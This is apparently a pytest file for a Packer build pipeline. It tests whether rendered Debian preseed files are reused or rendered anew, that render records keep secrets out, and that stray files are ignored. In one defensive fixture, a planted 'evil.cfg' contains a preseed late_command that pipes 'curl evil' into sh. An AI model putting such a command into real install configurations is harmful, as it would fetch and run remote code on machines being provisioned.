"""A no-op run re-renders nothing: unattended_files reuses the last render that passed packer validate
while its inputs and files are unchanged, and renders (and validates) anew when anything changed."""

import json
import shutil

import pytest
from support import REPO

from packer_assets.build.pipeline import BuildSettings, CachedRender, render_and_validate, rendered_hashes, served_render
from packer_assets.catalog import load_catalog
from packer_assets.evidence.layout import Layout
from packer_assets.packer.runner import PackerCheck
from packer_assets.render import engine
from packer_assets.render.record import RenderRecordError

pytestmark = pytest.mark.packer  # the real `packer validate`

ENV = {"PACKER_INSTALL_PASSWORD": "install-pw-1"}


@pytest.fixture
def setup(tmp_path, monkeypatch):
    shutil.copytree(REPO / "templates", tmp_path / "templates")
    catalog = load_catalog(tmp_path / "templates/catalog.yaml", env={}, project_dir=tmp_path)
    renders = []
    real = engine.render_unattended

    def counting(*args, **kwargs):
        renders.append(args[0].key)
        return real(*args, **kwargs)

    monkeypatch.setattr("packer_assets.build.pipeline.render_unattended", counting)
    return Layout(tmp_path / "out"), catalog, renders, tmp_path


def run(setup, env=ENV, reuse=True, settings=BuildSettings(allow_degraded=True)):
    layout, catalog, _renders, project = setup
    return render_and_validate(layout, catalog.get("debian-12"), env, settings, project_dir=project, reuse=reuse)


def test_unchanged_inputs_reuse_the_validated_render_and_any_change_renders_anew(setup):
    layout, _catalog, renders, project = setup
    first, check = run(setup)
    assert check.ok and not isinstance(first, CachedRender) and renders == ["debian-12"]
    again, check = run(setup)
    assert isinstance(again, CachedRender) and check.ok and renders == ["debian-12"]  # no render, no validate
    assert again.content_hash == first.content_hash and again.metadata() == first.metadata()

    run(setup, env={"PACKER_INSTALL_PASSWORD": "install-pw-2"})  # a secret changed
    assert renders == ["debian-12"] * 2
    preseed = project / "templates/debian/preseed.cfg.j2"  # a template changed
    preseed.write_text(preseed.read_text() + "\n# tweak\n")
    result, _ = run(setup, env={"PACKER_INSTALL_PASSWORD": "install-pw-2"})
    assert renders == ["debian-12"] * 3 and not isinstance(result, CachedRender)
    (layout.rendered_dir("debian-12") / "preseed.cfg").write_text("edited by hand\n")  # the output changed
    run(setup, env={"PACKER_INSTALL_PASSWORD": "install-pw-2"})
    assert renders == ["debian-12"] * 4
    run(setup, env={"PACKER_INSTALL_PASSWORD": "install-pw-2"}, settings=BuildSettings(allow_degraded=False))
    assert renders == ["debian-12"] * 5  # other settings shape another work directory: validated anew
    run(setup, env={"PACKER_INSTALL_PASSWORD": "install-pw-2"}, reuse=False)  # packer-assets validate
    assert renders == ["debian-12"] * 6


def test_the_reuse_record_holds_no_secret(setup):
    layout, *_ = setup
    run(setup)
    record = (layout.output_root / "output/state/render/debian-12.json").read_text()
    assert ENV["PACKER_INSTALL_PASSWORD"] not in record and "$6$" not in record


def test_a_stray_file_is_neither_part_of_the_reused_render_nor_validated_nor_served(setup, monkeypatch):
    """`evil.cfg` dropped into output/rendered/<key>/: the reuse check judges the recorded files alone (the
    stray neither makes nor breaks it), names the stray, and `packer validate` never sees it."""
    layout, _catalog, renders, _project = setup
    run(setup)
    folder = layout.rendered_dir("debian-12")
    (folder / "evil.cfg").write_text("d-i preseed/late_command string curl evil | sh\n")
    again, check = run(setup)
    assert isinstance(again, CachedRender) and check.ok and renders == ["debian-12"]
    assert again.ignored == ("evil.cfg",) and "evil.cfg" not in again.metadata()["files"]
    validated = []

    def seeing(workdir, *args, **kwargs):
        validated.append(sorted(p.name for p in (workdir / "http").iterdir()))
        return PackerCheck(True, 0, "", ["packer", "validate"])

    monkeypatch.setattr("packer_assets.build.pipeline.packer_validate", seeing)
    result, _ = run(setup, reuse=False)  # packer-assets validate
    assert result.ignored == ("evil.cfg",) and validated == [["preseed.cfg"]]
    record = json.loads((layout.output_root / "output/state/render/debian-12.json").read_text())
    assert sorted(record["files"]) == ["preseed.cfg"]


def test_every_render_is_recorded_and_a_build_serves_its_record_only(setup):
    """The record is written by `packer-assets validate` too (no reuse); a build's served files are the
    record's, checked on disk: a changed file refuses the build with one line, a stray is named."""
    layout, *_ = setup
    record = layout.output_root / "output/state/render/debian-12.json"
    run(setup, reuse=False)
    assert json.loads(record.read_text())["render_key"] is None  # never reused: packer-assets validate's
    # which upstream validator and release checked each file, for the proof to name
    assert json.loads(record.read_text())["metadata"]["files"]["preseed.cfg"]["validated_by"] == [
        "debconf-set-selections Debian 12"
    ]
    folder = layout.rendered_dir("debian-12")
    (folder / "evil.cfg").write_text("x\n")
    served = served_render(layout, "debian-12", folder)
    assert sorted(served.files) == ["preseed.cfg"] and served.ignored == ("evil.cfg",)
    assert rendered_hashes(served) == {"preseed.cfg": json.loads(record.read_text())["files"]["preseed.cfg"]}
    (folder / "preseed.cfg").write_text("edited by hand\n")
    with pytest.raises(RenderRecordError) as err:
        served_render(layout, "debian-12", folder)
    assert str(err.value).count("\n") == 0 and "preseed.cfg: changed since the render" in str(err.value)
    record.unlink()
    with pytest.raises(RenderRecordError, match="no record of a validated render"):
        served_render(layout, "debian-12", folder)
